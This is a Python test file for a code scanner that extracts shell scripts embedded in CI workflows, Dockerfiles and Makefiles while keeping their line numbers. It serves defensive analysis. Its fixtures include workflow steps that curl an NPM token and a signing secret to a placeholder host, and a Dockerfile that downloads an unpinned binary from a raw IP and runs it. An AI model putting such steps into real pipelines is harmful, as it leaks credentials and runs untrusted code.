"""Shell scripts inside Dockerfiles and workflows keep the host document's line numbers."""
from __future__ import annotations

from codescan.analyze import embedded_shell, languages


def test_workflow_literal_block_and_one_line_steps_map_to_their_lines_folded_ones_are_left_out():
    text = ("on: push\n"
            "jobs:\n"
            "  a:\n"
            "    steps:\n"
            "      - run: |\n"
            "          echo one\n"
            "          echo two\n"
            "      - run: echo three\n"
            "      - run: >\n"
            "          echo folded\n")
    got = list(embedded_shell.bodies("yaml", "workflow", text, None))
    assert [offset for offset, _body in got] == [5, 7]
    lines = text.split("\n")
    for offset, body in got:  # script line 1 is document line offset + 1 (index offset), at the same column
        first = body.decode().split("\n")[0]
        assert first.strip() and lines[offset].endswith(first.strip())
        assert lines[offset].index(first.strip()) == len(first) - len(first.lstrip()) or offset == 5


def test_dockerfile_run_lines_with_continuations_keep_lines_and_columns():
    text = "FROM x\nRUN a && \\\n    b\nCMD [\"c\"]\n"
    tree = languages.parser("dockerfile").parse(text.encode())
    got = list(embedded_shell.bodies("dockerfile", None, text, tree))
    assert len(got) == 1
    offset, body = got[0]
    # CMD's exec form is the command it starts, its words quoted, at its own line and column
    assert offset == 1 and body.decode() == "    a && \\\n    b\n    c"


def test_dockerfile_exec_form_words_are_quoted():
    text = 'FROM x\nENTRYPOINT ["/w", "-o", "a b;c"]\n'
    tree = languages.parser("dockerfile").parse(text.encode())
    got = list(embedded_shell.bodies("dockerfile", None, text, tree))
    assert got == [(1, b"           /w -o 'a b;c'")]


def test_other_files_hold_no_scripts():
    assert list(embedded_shell.bodies("python", None, "run = 1\n", None)) == []
    assert list(embedded_shell.bodies("yaml", None, "run: echo hi\n", None)) == []


def test_other_ci_services_script_lists_and_command_keys_are_shell():
    text = ("stages: [test]\n"
            "test:\n"
            "  before_script:\n"
            "    - pip install -r req.txt\n"
            "    - echo two\n"
            "  script:\n"
            "    - |\n"
            "      pytest -q\n"
            "  variables:\n"
            "    run: not-a-step\n")
    got = list(embedded_shell.bodies("yaml", "ci", text, None))
    assert [offset for offset, _ in got] == [3, 4, 7]  # (a variable named run is no step)
    assert got[0][1].decode().strip() == "pip install -r req.txt"
    assert got[2][1].decode().strip() == "pytest -q"
    # a GitHub workflow's lists are not steps (only `run:` is)
    assert list(embedded_shell.bodies("yaml", "workflow", text, None)) == []


def test_ci_files_are_recognised_by_path():
    from codescan.analyze import filekind
    for path in (".gitlab-ci.yml", "ci/templates/build.gitlab-ci.yml", ".circleci/config.yml", ".travis.yml",
                 "azure-pipelines.yml", "bitbucket-pipelines.yml"):
        assert filekind.of_path(path).role == "ci", path
    assert filekind.of_path("config.yml").role is None
    assert filekind.of_path(".github/workflows/ci.yml").role == "workflow"


def test_workflow_env_secrets_are_bound_in_a_line_before_the_step_and_pasted_secrets_read_as_variables():
    text = ("on: push\n"
            "env:\n"
            "  TOP: ${{ secrets.DEPLOY_KEY }}\n"
            "jobs:\n"
            "  a:\n"
            "    steps:\n"
            "      - env:\n"
            "          NPM: ${{ secrets.NPM_TOKEN }}\n"
            "          SHA: ${{ github.sha }}\n"
            "        run: |\n"
            "          echo \"$NPM\" | curl -d @- https://x.example\n"
            "      - run: curl -d \"${{ secrets.SIGNING }}\" https://x.example\n")
    got = list(embedded_shell.bodies("yaml", "workflow", text, None))
    lines = text.split("\n")
    (block_at, block), (line_at, line) = got
    head, first = block.decode().split("\n")[:2]
    assert head == 'TOP="${DEPLOY_KEY_SECRET}"; NPM="${NPM_TOKEN}";'  # SHA is no secret; DEPLOY_KEY not named like one
    assert lines[block_at + 1].strip() == first.strip()  # the added line takes the step's own `run: |` line
    assert line.decode().split("\n")[1].strip() == 'curl -d "${SIGNING_SECRET}" https://x.example'
    assert line_at + 2 == 12


def test_dockerfile_is_one_script_with_unpinned_remote_adds_read_as_downloads():
    # files persist across instructions: an ADDed file chmod-ed in a later RUN and started by CMD is one flow
    text = ("FROM x\n"
            "ADD http://192.0.2.1/a /usr/bin/a\n"
            "ADD --checksum=sha256:00 https://example.org/b /b\n"
            "ADD https://example.org/pkg/c.tgz /opt/\n"
            "COPY d /d\n"
            "RUN chmod +x /usr/bin/a \\\n"
            "    && true\n"
            "CMD /usr/bin/a --bg\n")
    tree = languages.parser("dockerfile").parse(text.encode())
    got = list(embedded_shell.bodies("dockerfile", None, text, tree))
    assert got == [(1, b"curl -fsSL -o /usr/bin/a http://192.0.2.1/a\n\n"
                       b"curl -fsSL -o /opt/c.tgz https://example.org/pkg/c.tgz\n\n"
                       b"    chmod +x /usr/bin/a \\\n    && true\n"
                       b"    /usr/bin/a --bg")]


def test_makefile_recipe_lines_keep_their_lines_and_read_make_dollars_as_the_shell_s():
    text = ("V := $(shell git describe)\n"
            "all:\n"
            "\t@echo \"$$(env | wc -l)\" $(PREFIX) \\\n"
            "\t  $(notdir $@)\n"
            "x = 1\n"
            "\t-rm -rf ${OUT}\n")
    got = list(embedded_shell.bodies(None, "makefile", text, None))
    assert len(got) == 1 and got[0][0] == 0
    lines = got[0][1].decode().split("\n")
    assert lines[0] == lines[1] == lines[4] == ""  # variable assignments and targets are not shell
    assert lines[2].strip() == 'echo "$(env | wc -l)" ${PREFIX} \\'
    assert "notdir" not in lines[3] and lines[5].strip() == "rm -rf ${OUT}"
    assert list(embedded_shell.bodies(None, "makefile", "all:\n# no recipe\n", None)) == []
